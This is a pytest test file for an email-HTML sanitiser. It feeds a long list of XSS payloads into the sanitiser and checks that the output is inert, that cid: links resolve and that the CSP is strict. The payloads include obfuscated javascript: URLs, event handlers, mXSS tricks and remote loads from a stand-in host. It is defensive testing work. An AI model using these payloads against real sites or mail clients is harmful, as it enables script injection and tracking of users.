"""mimekit.web.html_body: hostile HTML comes out inert (no script, no event handler, no
javascript: URL, no remote load unless allowed), cid: references point at the message's
parts, links open in a new tab without opener, mail layout and text survive, and the CSP
of the document says the same.

Outputs are read back with html.parser (what the browser is given is what html_body wrote,
so reading it back shows every element and attribute a browser would act on)."""

import re
import textwrap
from html.parser import HTMLParser

import pytest
from helpers import run_bounded

from mimekit.web.html_body import body_csp, sanitise


def safe_html(text: str, cid_url, allow_remote: bool) -> str:
    return sanitise(text, cid_url, allow_remote).document


def count_remote_images(text: str) -> int:
    return sanitise(text, lambda cid: None, allow_remote=False).remote_blocked

EVIL = "evil.test"   # the "remote" host in these inputs (nothing is fetched: the output is only parsed)

HOSTILE = {
    "script": "<script>window.__pwned=1</script>",
    "script uppercase remote": "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>alert(1)</script>",
    "script self-closed": "<script/>alert(1)<p>after</p>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror uppercase": '<IMG SRC="x" ONERROR="alert(1)">',
    "onload body": "<body onload=alert(1)><p>x</p></body>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript newline": '<a href="jav\nascript:alert(1)">x</a>',
    "javascript decimal entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript spaces case": '<a href="  JaVaScRiPt:alert(1)">x</a>',
    "javascript colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript nul": '<a href="java\x00script:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html link": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "data html image": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "data svg image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    "base": '<base href="http://evil.test/"><a href="x">x</a>',
    "link stylesheet": "<link rel=stylesheet href=http://evil.test/x.css>",
    "iframe": '<iframe src="http://evil.test/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frameset": '<frameset><frame src="http://evil.test/"></frameset>',
    "object embed applet": ('<object data="http://evil.test/o"></object><embed src="http://evil.test/e">'
                            '<applet code="X" codebase="http://evil.test/"></applet>'),
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg onload=alert(1)>",
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg remote image": '<svg><image href="http://evil.test/i.png"/></svg>',
    "math mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "style remote url": "<style>body{background:url(http://evil.test/a.png)}</style>",
    "style import": "<style>@import 'http://evil.test/x.css'; @import url(http://evil.test/y.css);</style>",
    "style escaped url": r"<style>div{background:u\72l(http://evil.test/a.png)}</style>",
    "style escaped backslash": r"<style>div{background:u\\72l(http://evil.test/a.png)}</style>",
    "style expression": "<style>a{width:expression(alert(1))}</style>",
    "style end games": "<style>x{}</style\n><img src=x onerror=alert(1)><style>a{}</STYLE><script>alert(1)</script>",
    "style breaks out": "<style>p{color:red}</style><p>x</p><style>&lt;/style&gt;<script>alert(1)</script></style>",
    "style attribute url": '<div style="background-image: url(&quot;http://evil.test/a&quot;)">x</div>',
    "style attribute image-set": "<div style=\"background:image-set('http://evil.test/a.png' 1x)\">x</div>",
    "style attribute behavior": '<div style="behavior: url(x.htc); -moz-binding:url(http://evil.test/x.xml#x)">x</div>',
    "style attribute protocol-relative": '<p style="background:url(//evil.test/a.png)">x</p>',
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "form": ('<form action="http://evil.test/"><button formaction="javascript:alert(1)">x</button>'
             '<input type=submit formaction=http://evil.test/><input type=image src=http://evil.test/i></form>'),
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "remote image": '<img src="http://evil.test/pixel.gif">',
    "remote image entity": '<img src="http&#58;//evil.test/pixel.gif">',
    "protocol-relative image": '<img src="//evil.test/pixel.gif">',
    "backslash image": '<img src="\\\\evil.test/pixel.gif">',
    "background attribute": '<table background="http://evil.test/bg.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    "body background": "<body background=http://evil.test/bg><p>x</p>",
    "srcset": '<img srcset="http://evil.test/a.png 1x" src="cid:a">',
    "media": ('<video poster="http://evil.test/p.png" src="http://evil.test/v"></video>'
              '<audio src="http://evil.test/a"></audio><picture><source srcset="http://evil.test/s"></picture>'),
    "ping": '<a href="https://ok.test/" ping="http://evil.test/ping">x</a>',
    "unclosed tag": '<img src="x" onerror="alert(1)"',
    "unclosed attribute": "<a href='javascript:alert(1)'",
    "attribute holding markup": '<div title="x"><script>alert(1)</script>">x</div>',
    "comment tricks": "<!--><script>alert(1)</script>--><!--[if gte mso 9]><script>alert(2)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "template xmp": "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "textarea title": "<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>",
    "target and rel": '<a href="https://ok.test/" target="_top" rel="opener">x</a>',
}

FORBIDDEN_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base",
                      "link", "form", "input", "button", "textarea", "select", "noscript", "template", "image", "video",
                      "audio", "source", "isindex", "xmp", "title"}


class Parsed(HTMLParser):
    """What a document holds: its elements with their attributes, the text of its
    <style> elements, and its text."""

    def __init__(self, document: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []
        self.text: list[str] = []
        self._in_style = False
        self.feed(document)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        (self.styles if self._in_style else self.text).append(data)

    def attributes(self, element: str, name: str) -> list[str]:
        return [attrs[name] for tag, attrs in self.elements if tag == element and name in attrs]


def normalised(url: str) -> str:
    return re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21)))).lower()


def assert_inert(document: str, remote_allowed: bool = False) -> Parsed:
    parsed = Parsed(document)
    for tag, attrs in parsed.elements:
        assert tag not in FORBIDDEN_ELEMENTS, document
        assert tag != "meta" or set(attrs) <= {"charset", "name", "content"} and "refresh" not in str(attrs).lower()
        for name, value in attrs.items():
            assert not name.startswith("on") and name not in ("srcdoc", "formaction", "action", "srcset", "ping"), tag
            assert ":" not in name, name   # xlink:href and the like
            assert not normalised(value).startswith(("javascript:", "vbscript:", "data:text", "data:image/svg")), value
            if not remote_allowed and not (tag == "a" and name == "href"):
                assert EVIL not in value, (tag, name, value)
    for css in parsed.styles + [attrs.get("style", "") for _, attrs in parsed.elements]:
        lowered = css.lower()
        assert "expression(" not in lowered and "javascript:" not in lowered and "@import" not in lowered, css
        assert "behavior:" not in lowered and "-moz-binding:" not in lowered and "\\" not in css, css
        if not remote_allowed:
            assert "//" not in css, css   # no URL to a host (CSS has no // comments)
    return parsed


@pytest.mark.parametrize("allow_remote", [False, True], ids=["remote-blocked", "remote-allowed"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_comes_out_inert(name, allow_remote):
    document = safe_html(HOSTILE[name], lambda cid: f"/cid/{cid}", allow_remote)
    parsed = assert_inert(document, allow_remote)
    assert not any("alert(1)" in value for _, attrs in parsed.elements for value in attrs.values())


def test_all_hostile_html_at_once_comes_out_inert():
    assert_inert(safe_html("\n".join(HOSTILE.values()), lambda cid: None, False))


def test_the_output_is_a_whole_utf8_document():
    document = safe_html("<p>Grüße</p>", lambda cid: None, False)
    assert document.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in document
    assert document.rstrip().endswith("</body></html>")
    assert "<p>Grüße</p>" in document


def test_unclosed_elements_are_closed():
    parsed = Parsed(safe_html("<div><table><tr><td><a href='https://ok.test/'>open", lambda cid: None, False))
    body = safe_html("<div><table><tr><td><b>open", lambda cid: None, False).split("<body>", 1)[1]
    closing = re.findall(r"</(\w+)>", body)
    assert closing == ["b", "td", "tr", "table", "div", "body", "html"]
    assert "open" in "".join(parsed.text)


def test_cid_references_become_the_part_urls():
    html = ('<img src="cid:chart@example.test" alt="chart"><img src="CID:a%40b">'
            '<table background="cid:bg"><tr><td style="background:url(cid:cell)">x</td></tr></table>'
            '<img src="cid:unknown">')
    known = {"chart@example.test", "a@b", "bg", "cell"}
    parsed = Parsed(safe_html(html, lambda cid: f"/api/messages/m1/cid/{cid}" if cid in known else None, False))
    assert parsed.attributes("img", "src") == ["/api/messages/m1/cid/chart@example.test", "/api/messages/m1/cid/a@b"]
    assert parsed.attributes("table", "background") == ["/api/messages/m1/cid/bg"]
    assert parsed.attributes("td", "style") == ['background:url("/api/messages/m1/cid/cell")']
    assert [attrs for tag, attrs in parsed.elements if tag == "img"][-1] == {}   # unknown cid: no src at all


def test_remote_images_are_blocked_marked_and_counted_unless_allowed():
    html = ('<img src="http://evil.test/a.png" alt="a"><img src="https://evil.test/b.png">'
            '<p style="background:url(http://evil.test/c.png)">x</p><img src="data:image/png;base64,iVBORw0KGgo=">')
    blocked = Parsed(safe_html(html, lambda cid: None, False))
    assert [attrs for tag, attrs in blocked.elements if tag == "img"] == [
        {"alt": "a", "data-remote": ""}, {"data-remote": ""}, {"src": "data:image/png;base64,iVBORw0KGgo="}]
    assert blocked.attributes("p", "style") == ["background:none"]
    assert count_remote_images(html) == 3
    assert count_remote_images("<p>no images</p><img src='cid:x'>") == 0
    allowed = Parsed(safe_html(html, lambda cid: None, True))
    assert allowed.attributes("img", "src")[:2] == ["http://evil.test/a.png", "https://evil.test/b.png"]
    assert allowed.attributes("p", "style") == ['background:url("http://evil.test/c.png")']


def test_links_open_in_a_new_tab_without_opener_or_referrer():
    parsed = Parsed(safe_html('<a href="https://ok.test/x?a=1&amp;b=2">ok</a><a href="mailto:bob@example.test">m</a>'
                              '<a href="javascript:alert(1)">js</a><a name="anchor">n</a>', lambda cid: None, False))
    links = [attrs for tag, attrs in parsed.elements if tag == "a"]
    assert links[0] == {"href": "https://ok.test/x?a=1&b=2", "target": "_blank", "rel": "noopener noreferrer"}
    assert links[1]["href"] == "mailto:bob@example.test" and links[1]["rel"] == "noopener noreferrer"
    assert links[2] == {} and links[3] == {}
    assert "".join(parsed.text).count("js") == 1   # the text of a dropped link stays


def test_benign_mail_keeps_its_layout_and_text():
    newsletter = """<html><head><title>News</title><style type="text/css">
      .box { color: #333; font-family: Arial, sans-serif; } td.cell { padding: 4px; }</style></head>
      <body bgcolor="#ffffff"><center><table width="600" cellpadding="0" border="0" class="box">
      <tr><td class="cell" align="center"><h1>Monthly <i>news</i></h1>
      <p style="color: red; font-weight: bold">Prices &lt;up&gt; &amp; away</p>
      <font face="Verdana" size="2">Fine print</font><br>
      <ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote>
      <span dir="rtl">שלום</span></td></tr></table></center></body></html>"""
    document = safe_html(newsletter, lambda cid: None, False)
    parsed = assert_inert(document)
    text = " ".join(" ".join(parsed.text).split())
    assert "Monthly news Prices <up> & away Fine print one two quoted שלום" in text
    assert "News" not in text   # the title is not body text
    tags = [tag for tag, _ in parsed.elements]
    for tag in ("table", "tr", "td", "h1", "i", "p", "font", "br", "ul", "li", "blockquote", "span", "center"):
        assert tag in tags
    assert parsed.attributes("table", "width") == ["600"] and parsed.attributes("font", "face") == ["Verdana"]
    assert parsed.attributes("p", "style") == ["color: red; font-weight: bold"]
    assert parsed.attributes("div", "bgcolor") == ["#ffffff"]   # the body's colours, on a div
    assert ".box { color: #333; font-family: Arial, sans-serif; }" in "".join(parsed.styles)
    assert "&lt;up&gt; &amp; away" in document


def test_text_and_attribute_values_are_escaped():
    document = safe_html('<p title="&quot;&gt;&lt;script&gt;">a &lt;b&gt; c</p>', lambda cid: None, False)
    assert '<p title="&quot;&gt;&lt;script&gt;">a &lt;b&gt; c</p>' in document


def test_body_csp():
    blocked, allowed = body_csp(False), body_csp(True)
    for policy in (blocked, allowed):
        directives = dict((part.split(" ", 1) + [""])[:2] for part in policy.split("; "))
        assert directives["default-src"] == "'none'" and "script-src" not in directives
        assert directives["style-src"] == "'unsafe-inline'" and directives["font-src"] == "'none'"
        assert directives["form-action"] == "'none'" and directives["base-uri"] == "'none'"
        sandbox = directives["sandbox"].split()
        assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
        assert "allow-forms" not in sandbox and "allow-top-navigation" not in sandbox
    assert dict(part.split(" ", 1) for part in blocked.split("; ") if " " in part)["img-src"] == "'self' data:"
    assert dict(part.split(" ", 1) for part in allowed.split("; ") if " " in part)["img-src"] == "'self' data: *"


@pytest.mark.parametrize("html", [
    "<![foo[x]]>after", "a<![ b>after", "<![ <img src=x onerror=alert(1)>after",     # html.parser: AssertionError
    "&#" + "1" * 5000 + ";after", '<p title="&#' + "9" * 5000 + ';">after</p>',      # int(): more than 4300 digits
], ids=["marked section keyword", "marked section without name", "marked section holding a tag",
        "long decimal reference in text", "long decimal reference in an attribute"])
def test_markup_the_standard_parser_chokes_on_still_comes_out_inert(html):
    parsed = assert_inert(safe_html(html, lambda cid: None, False))
    assert "after" in "".join(parsed.text)


SANITISE_UNDER_CPU_LIMIT = textwrap.dedent("""
    import resource, sys
    resource.setrlimit(resource.RLIMIT_CPU, (10, 10))   # linear: well under a second; quadratic: minutes
    from mimekit.web.html_body import sanitise
    sys.stdout.write(sanitise(sys.stdin.read(), lambda cid: None, False).document)
""")


@pytest.mark.parametrize("tail", ['<a x="', "<div ", "<a", "</", "<?"],
                         ids=["open attribute", "tag with a space", "tag", "end tag", "processing instruction"])
def test_a_document_ending_inside_a_tag_many_times_over_is_read_in_linear_time(tail):
    """html.parser's close() reads an unfinished tag as text up to the next "<" and parses
    again from there: 64 KiB of '<a x="' took minutes of CPU (CPython gh-135462). Run in a
    child under a CPU-time limit, which the kernel enforces on a quadratic parse."""
    result = run_bounded(["-c", SANITISE_UNDER_CPU_LIMIT], input=("<p>before</p>" + tail * (65536 // len(tail))).encode())
    assert result.returncode == 0, result.stderr.decode()[-500:]
    document = result.stdout.decode()
    assert "<p>before</p>" in document and "<a" not in document.split("<body>", 1)[1].replace("<p>before</p>", "")
